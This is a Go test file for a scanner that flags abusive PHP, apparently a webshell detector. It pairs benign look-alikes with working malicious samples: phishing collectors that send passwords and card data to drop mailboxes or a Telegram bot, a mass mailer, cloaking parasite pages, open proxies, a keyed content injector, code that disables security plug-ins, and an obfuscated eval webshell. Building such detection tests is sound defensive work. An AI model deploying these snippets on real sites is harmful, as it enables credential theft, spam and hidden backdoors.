package php

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/yingji/yingji/internal/webshell/verdict"
)

// abuseCase is a probe of an abuse rule: a snippet and the rule that
// must report it, or "" for a benign look-alike that must stay below
// verdict.Report.
type abuseCase struct {
	name, src string
	rule      string
}

// abuseProbes are the constructs of abuse.go and abuse_remote.go, each
// with the benign look-alikes that must stay below verdict.Report.
var abuseProbes = []abuseCase{
	{"phishing collector", `<?php
$ip = getenv("REMOTE_ADDR");
$msg  = "User: " . $_POST['user'] . "\n";
$msg .= "Pass: " . $_POST['pass'] . "\n";
$msg .= "Card: " . $_POST['ccnum'] . " " . $_POST['cvv'] . "\n";
$msg .= "IP: " . $ip . "\n";
mail("drop@example.org", "Bank login", $msg);
header("Location: https://www.bank.example/login");
`, "php.abuse.phish-collector"},
	{"login stealer with geolocation", `<?php
$ip = $_SERVER['REMOTE_ADDR'];
$geo = unserialize(file_get_contents("http://www.geoplugin.net/php.gp?ip=$ip"));
$city = $geo["geoplugin_city"];
mail("drop@example.org", "login", "user $username pass $password from $ip " . $city);
`, "php.abuse.phish-collector"},
	{"phishing collector with a Telegram bot", `<?php
$ip = $_SERVER['REMOTE_ADDR'];
$msg = "Email: " . $_POST['email'] . "\nPassword: " . $_POST['password'] . "\nPIN: " . $_POST['pin'] . "\nIP: " . $ip;
file_get_contents("https://api.telegram.org/bot123456:AAE/sendMessage?chat_id=42&text=" . urlencode($msg));
header("Location: https://login.bank.example/");
`, "php.abuse.phish-collector"},
	{"support chat notice through a Telegram bot", `<?php
$msg = "New ticket from " . $_POST['name'] . ": " . $_POST['message'] . " (" . $_SERVER['REMOTE_ADDR'] . ")";
$c = curl_init("https://api.telegram.org/bot123456:AAE/sendMessage");
curl_setopt($c, CURLOPT_POSTFIELDS, array('chat_id' => 42, 'text' => $msg));
curl_exec($c);
`, ""},
	{"phishing collector writing a text file", `<?php
$ip = getenv("REMOTE_ADDR");
$data = "User: " . $_POST['login'] . " Pass: " . $_POST['passwd'] . " Card: " . $_POST['card_number'] . " IP: " . $ip . "\n";
$fp = fopen("rezult.txt", "a");
fwrite($fp, $data);
fclose($fp);
header("Location: https://www.bank.example/");
`, "php.abuse.phish-collector"},
	{"login audit log", `<?php
$line = date('c') . " login " . $_POST['user'] . " from " . $_SERVER['REMOTE_ADDR'] . " ok=" . (int) check($_POST['user'], $_POST['password']) . "\n";
file_put_contents("logs/auth.log", $line, FILE_APPEND);
header("Location: https://www.example.org/home");
`, ""},
	{"mailbox phishing page", `<?php
$ip = $_SERVER['REMOTE_ADDR'];
$message = "Email: " . $_POST['email'] . "\nPassword: " . $_POST['password'] . "\nIP: " . $ip . "\n";
mail("results.drop@gmail.com", "Office login", $message);
header("Location: https://login.mail.example.com/");
`, "php.abuse.phish-collector"},
	{"registration notice to a free mailbox, sent on to the site", `<?php
$message = "User: " . $_POST['user'] . "\nPassword: " . $_POST['password'] . "\n";
mail("club.owner@gmail.com", "New member", $message);
header("Location: https://www.club.example/welcome");
`, ""},
	{"contact form", `<?php
$ip = $_SERVER['REMOTE_ADDR'];
$body = "Name: " . $_POST['name'] . "\nMessage: " . $_POST['message'] . "\nIP: " . $ip;
mail("owner@example.org", "Contact form", $body);
header("Location: https://www.example.org/thanks.html");
`, ""},
	{"registration notice to the site owner", `<?php
$ip = $_SERVER['REMOTE_ADDR'];
mail("admin@example.org", "New account", "User " . $_POST['login'] . " password " . $_POST['password'] . " from " . $ip);
header("Location: /welcome.php");
`, ""},
	{"registration notice sent on to the site", `<?php
$ip = $_SERVER['REMOTE_ADDR'];
mail("admin@example.org", "New account", "User " . $_POST['login'] . " password " . $_POST['password'] . " from " . $ip);
header("Location: https://www.example.org/welcome.php");
`, ""},
	{"password reset to the user", `<?php
$pass = substr(md5(uniqid()), 0, 8);
mail($_POST['email'], "Your new password", "Password: " . $pass . "\nIP: " . $_SERVER['REMOTE_ADDR']);
header("Location: https://www.example.org/");
`, ""},
	{"mass mailer from a list file", `<?php
set_time_limit(0);
$list = file("list.txt");
$body = file_get_contents("http://spam.example/letter.html");
foreach ($list as $line) {
	$to = trim($line);
	mail($to, "Offer", $body, "From: promo@example.org");
}
`, "php.abuse.mass-mailer"},
	{"newsletter from the database", `<?php
$body = file_get_contents("templates/newsletter.html");
$res = mysqli_query($db, "SELECT email FROM subscribers WHERE active = 1");
while ($row = mysqli_fetch_assoc($res)) {
	mail($row['email'], "Our news", str_replace("{email}", $row['email'], $body));
}
`, ""},
	{"notice to every administrator", `<?php
$admins = array("a@example.org", "b@example.org");
foreach ($admins as $to) {
	mail($to, "Backup done", "The nightly backup finished.");
}
`, ""},
	{"parasite page", `<?php
function get($u) { $c = curl_init(); curl_setopt($c, CURLOPT_URL, $u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }
if (stripos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') !== false) {
	$page = get("http://spam.example/p.php?host=" . $_SERVER['HTTP_HOST'] . "&uri=" . urlencode($_SERVER['REQUEST_URI']));
	echo $page;
	exit;
}
`, "php.abuse.parasite"},
	{"parasite page with file_get_contents", `<?php
$server = "http://203.0.113.9/vb/";
$me = "http://" . $_SERVER['SERVER_NAME'] . $_SERVER['PHP_SELF'];
echo file_get_contents($server . "index.php?host=" . $me);
`, "php.abuse.parasite"},
	{"feed reader", `<?php
$xml = simplexml_load_string(file_get_contents("https://news.example.org/feed.xml"));
foreach ($xml->channel->item as $item) {
	echo '<a href="' . htmlspecialchars($item->link) . '">' . htmlspecialchars($item->title) . '</a>';
}
echo "Served by " . $_SERVER['HTTP_HOST'];
`, ""},
	{"share link beside a local file", `<?php
echo '<a href="http://share.example.com/?u=' . urlencode($_SERVER['HTTP_HOST']) . '">share</a>' . file_get_contents('footer.html');
`, ""},
	{"parasite page with curl_init", `<?php
$ch = curl_init("http://links.example.net/get.php?site=" . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);
curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
echo curl_exec($ch);
`, "php.abuse.parasite"},
	{"reverse proxy to a back end", `<?php
$ch = curl_init("http://10.0.0.7:8080" . $_SERVER['REQUEST_URI']);
curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
echo curl_exec($ch);
`, ""},
	{"page cache keyed by host", `<?php
$file = "cache/" . md5($_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']) . ".html";
if (is_file($file)) { echo file_get_contents($file); exit; }
`, ""},
	{"bot detection for analytics", `<?php
$bot = stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false;
if (!$bot) { $n = (int)file_get_contents('counter.txt'); file_put_contents('counter.txt', $n + 1); }
echo "<p>Welcome to " . htmlspecialchars($_SERVER['HTTP_HOST']) . "</p>";
`, ""},
	{"open proxy", `<?php
$u = $_GET['url'];
$c = curl_init();
curl_setopt($c, CURLOPT_URL, $u);
curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
echo curl_exec($c);
`, "php.abuse.open-proxy"},
	{"request-named host", `<?php
echo file_get_contents("http://" . $_GET['ip'] . "/status");
`, "php.abuse.open-proxy"},
	{"relay to a host and port the request names", `<?php
$s = fsockopen($_POST['host'], $_POST['port'], $no, $err, 5);
fwrite($s, $_POST['data']);
while (!feof($s)) { echo fgets($s, 1024); }
`, "php.abuse.open-proxy"},
	{"search API client", `<?php
$q = urlencode($_GET['q']);
$r = json_decode(file_get_contents("https://api.search.example/v1?q=" . $q), true);
foreach ($r['items'] as $it) { echo htmlspecialchars($it['title']); }
`, ""},
	{"reverse-IP lookup", `<?php
function search($what) {
	$ch = curl_init();
	curl_setopt($ch, CURLOPT_URL, "http://www.bing.com/search?q=" . urlencode($what));
	curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
	$data = curl_exec($ch);
	preg_match_all('#<a href="(https?://[^"]+)"#', $data, $m);
	return array_unique($m[1]);
}
$sites = search("ip:" . $_POST['ip']);
echo implode("\n", $sites);
`, "php.abuse.reverse-ip"},
	{"link injector behind a fixed key", `<?php
if (isset($_REQUEST['key']) && md5($_REQUEST['key']) == '5f4dcc3b5aa765d61d8327deb882cf99') {
	$c = $_REQUEST['data'];
	$wpdb->query('UPDATE ' . $wpdb->prefix . 'posts SET post_content = CONCAT(post_content, "' . esc_sql($c) . '") WHERE ID = ' . intval($_REQUEST['id']));
	die('ok');
}
`, "php.abuse.content-injector"},
	{"post editor behind the application's login", `<?php
if (current_user_can('edit_posts') && wp_verify_nonce($_POST['nonce'], 'edit')) {
	$wpdb->query('UPDATE ' . $wpdb->prefix . 'posts SET post_content = "' . esc_sql($_POST['content']) . '" WHERE ID = ' . intval($_POST['id']));
}
`, ""},
	{"link-selling client", `<?php
define('_SAPE_USER', 'abcdef0123456789abcdef0123456789');
require_once($_SERVER['DOCUMENT_ROOT'] . '/' . _SAPE_USER . '/sape.php');
$sape = new SAPE_client(array('charset' => 'UTF-8'));
echo $sape->return_links();
`, "php.abuse.link-client"},
	{"a theme's menu links", `<?php
$menu = new Theme_Menu('main');
echo $menu->get_links();
`, ""},
	{"security plug-ins switched off", `<?php
function off() {
	$o = get_option("itsec_file_change");
	$o['enabled'] = false;
	update_option("itsec_file_change", $o);
	mysql_query("TRUNCATE " . DB_PRE . "wfIssues");
	mysql_query("UPDATE " . DB_PRE . "wfConfig SET val = '*.php' WHERE name = 'scan_exclude'");
}
add_action('wp_head', 'off');
`, "php.abuse.security-off"},
	{"a security plug-in's own maintenance", `<?php
function wf_cleanup() {
	global $wpdb;
	$wpdb->query("TRUNCATE " . $wpdb->prefix . "wfIssues");
	$wpdb->query("DELETE FROM " . $wpdb->prefix . "wfStatus WHERE ctime < 100");
	update_option("wordfence_last_cleanup", time());
}
`, ""},
}

func TestAbuseProbes(t *testing.T) { checkAbuseCases(t, abuseProbes) }

// checkAbuseCases checks that each case is reported by its rule, with an
// explanation in both languages that names the behaviour and a sink, or
// not reported at all, and that Decide mode gives the same verdict.
func checkAbuseCases(t *testing.T, cases []abuseCase) {
	t.Helper()
	for _, p := range cases {
		dets := Analyze([]byte(p.src))
		reported := verdict.Max(dets) >= verdict.Report
		if reported != (p.rule != "") {
			t.Errorf("%s: reported %v, want %v: %+v", p.name, reported, p.rule != "", dets)
			continue
		}
		found := p.rule == ""
		for _, d := range dets {
			if d.Rule == p.rule && d.Score >= verdict.Report {
				found = true
				if d.Why == "" || d.WhyZh == "" || d.Sink == nil || d.Sink.Line == 0 {
					t.Errorf("%s: %s lacks an explanation or a sink: %+v", p.name, d.Rule, d)
				}
				if !strings.Contains(d.Why, ":") {
					t.Errorf("%s: %s does not name the behaviour: %s", p.name, d.Rule, d.Why)
				}
			}
		}
		if !found {
			t.Errorf("%s: no %s detection: %+v", p.name, p.rule, dets)
		}
		if got := verdict.Max(AnalyzeFor([]byte(p.src), verdict.Decide)) >= verdict.Report; got != reported {
			t.Errorf("%s: Decide reported %v, Explain %v", p.name, got, reported)
		}
	}
}

func TestCredKind(t *testing.T) {
	for name, want := range map[string]uint8{
		"password": credPassword, "emailpassword": credPassword, "pwd": credPassword, "senha": credPassword,
		"cardnumber": credCard, "cvv": credCard, "expirydate": credCard,
		"pin": credPIN, "atmpin": credPIN, "securitypin": credPIN,
		"ssn": credIdentity, "mothermaidenname": credIdentity,
		"pin_2": credPIN, "pincode": credPIN,
		"name": 0, "message": 0, "shipping": 0, "passport": 0, "spin": 0, "ping": 0, "subject": 0, "pinterest": 0, "opinion": 0,
	} {
		if got := credKind(name); got != want {
			t.Errorf("credKind(%q) = %d, want %d", name, got, want)
		}
	}
}

func TestSecurityProduct(t *testing.T) {
	for text, want := range map[string]string{
		"TRUNCATE wp_wfIssues": "Wordfence", "update_option ITSEC_file_change": "iThemes Security",
		"DELETE FROM wp_aiowps_events": "All In One WP Security", "UPDATE wp_posts SET x = 1": "",
	} {
		if got := securityProduct(text); got != want {
			t.Errorf("securityProduct(%q) = %q, want %q", text, got, want)
		}
	}
	for text, want := range map[string]string{" (SELECT 1": "select", "\ttruncate x": "truncate", "": "", "UPDATE`t`": "update"} {
		if got := sqlVerb(text); got != want {
			t.Errorf("sqlVerb(%q) = %q, want %q", text, got, want)
		}
	}
}

func TestFreeMail(t *testing.T) {
	for to, want := range map[string]bool{
		"a@gmail.com": true, "a@gmail.com, b@yahoo.co.uk": true, "<x@mail.ru>": true,
		"owner@example.org": false, "a@gmail.com, owner@example.org": false, "": false,
	} {
		if got := freeMail(to); got != want {
			t.Errorf("freeMail(%q) = %v, want %v", to, got, want)
		}
	}
}

func TestRemoteHost(t *testing.T) {
	for u, want := range map[string]string{
		"http://spam.example/p.php?x": "spam.example", "https://203.0.113.9/": "203.0.113.9",
		"http://": "", "http://localhost/x": "", "http://127.0.0.1/x": "", "http://host": "", "ftp://a.b/": "",
		"http://192.168.1.5/x": "", "http://172.20.0.1/x": "", "http://172.32.0.1/x": "172.32.0.1", "http://api.internal/x": "",
	} {
		if got := remoteHost(u); got != want {
			t.Errorf("remoteHost(%q) = %q, want %q", u, got, want)
		}
	}
}

// TestPayloadServer checks a page that prints a packed webshell's code,
// and a page that prints a packed image.
func TestPayloadServer(t *testing.T) {
	noise := make([]byte, 3000)
	rng := rand.New(rand.NewPCG(1, 2))
	for i := range noise {
		noise[i] = byte(rng.UintN(256))
	}
	pack := func(s string) string {
		var b bytes.Buffer
		w := zlib.NewWriter(&b)
		w.Write([]byte(s))
		w.Close()
		return base64.StdEncoding.EncodeToString(b.Bytes())
	}
	shell := "$k = 'x'; eval($_POST['cmd']); // " + base64.StdEncoding.EncodeToString(noise)
	src := "<?php echo gzuncompress(base64_decode('" + pack(shell) + "'));"
	dets := Analyze([]byte(src))
	if verdict.Max(dets) < verdict.Report || dets[0].Rule != "php.abuse.payload-server" {
		t.Errorf("printed webshell: %+v", dets)
	}
	// Decoders named through variables, the payload cut into pieces: no
	// long literal to notice.
	packed := pack(shell)
	split := "<?php $d = str_rot13('onfr64_qrpbqr'); $z = 'gzuncompress'; echo $z($d('" + packed[:len(packed)/2] + "' . '" + packed[len(packed)/2:] + "'));"
	if dets := Analyze([]byte(split)); verdict.Max(dets) < verdict.Report || dets[0].Rule != "php.abuse.payload-server" {
		t.Errorf("printed webshell, split: %+v", dets)
	}
	image := "<?php header('Content-Type: image/png'); echo base64_decode('" + base64.StdEncoding.EncodeToString(noise) + "');"
	if dets := Analyze([]byte(image)); verdict.Max(dets) >= verdict.Report {
		t.Errorf("printed image reported: %+v", dets)
	}
}

// TestCloakingNamed checks that a parasite page that tests for crawlers
// is called cloaking, and one that does not is not.
func TestCloakingNamed(t *testing.T) {
	for _, p := range abuseProbes {
		if p.rule != "php.abuse.parasite" {
			continue
		}
		want := strings.Contains(p.src, "Googlebot")
		for _, d := range Analyze([]byte(p.src)) {
			if d.Rule == p.rule {
				if got := strings.Contains(d.Why, "cloaking"); got != want {
					t.Errorf("%s: cloaking named %v, want %v: %s", p.name, got, want, d.Why)
				}
			}
		}
	}
}
